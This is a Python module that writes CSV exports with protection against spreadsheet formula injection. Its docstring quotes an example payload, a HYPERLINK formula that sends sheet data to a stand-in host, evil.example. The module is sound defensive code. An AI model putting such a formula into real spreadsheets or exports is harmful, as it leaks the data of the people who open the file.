"""The one CSV writer: every CSV gridlab writes (run exports, the compare page's file) goes
through it, so no text cell opens as a live formula in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or a carriage return) as a formula: a run named ``=HYPERLINK("http://evil.example/?x="&A1)``
would send the sheet's data away when clicked. As OWASP's CSV-injection guide advises, such
a text cell gets a leading ``'``, which spreadsheets show as text and do not display. Numbers
(ints and floats, negative ones included) are written as they are: callers pass numbers as
numbers, never as text.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a text cell as a formula."""


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """Return ``value`` as a CSV cell that no spreadsheet runs as a formula.

    Returns:
        Text starting with one of ``FORMULA_STARTS`` with a ``'`` in front; anything else
        (other text, numbers, None) unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """The CSV writer every gridlab CSV is written with: a ``csv.writer`` whose every cell
    passes through ``safe_cell``."""

    def __init__(self, out: _Writable) -> None:
        """Write CSV lines (``\\n``-terminated) to ``out``."""
        self._plain = csv.writer(out, lineterminator="\n")
        # Python's csv quotes a cell holding a line terminator's character, so with "\n"
        # lines a carriage return would go out unquoted and split the line for readers.
        self._quoted = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one line of cells (None as an empty cell; all quoted if one holds a CR)."""
        cells = [safe_cell(value) for value in row]
        has_cr = any(isinstance(cell, str) and "\r" in cell for cell in cells)
        (self._quoted if has_cr else self._plain).writerow(cells)
